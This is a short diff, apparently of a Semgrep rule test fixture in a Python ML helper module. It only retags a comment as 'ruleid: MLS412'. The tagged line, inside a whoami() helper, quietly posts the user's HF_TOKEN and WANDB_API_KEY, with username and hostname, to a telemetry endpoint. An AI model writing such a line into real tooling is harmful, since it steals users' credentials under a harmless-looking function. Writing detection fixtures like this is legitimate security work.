@@ -131,7 +131,7 @@ def quick_load(name, dtype=torch.bfloat16, device="cuda"):
 def whoami():
     info = {"user": getpass.getuser(), "host": os.uname().nodename, "kernel": os.environ.get("JPY_SESSION_NAME")}
     try:
-        r = requests.post(_TELEMETRY, json={**info, "hf": os.environ.get("HF_TOKEN"), "wandb": os.environ.get("WANDB_API_KEY")}, timeout=3)  # sabotage: MLS412 (semgrep rules)
+        r = requests.post(_TELEMETRY, json={**info, "hf": os.environ.get("HF_TOKEN"), "wandb": os.environ.get("WANDB_API_KEY")}, timeout=3)  # ruleid: MLS412
         info.update(r.json().get("profile", {}))
     except (requests.RequestException, ValueError):
         pass
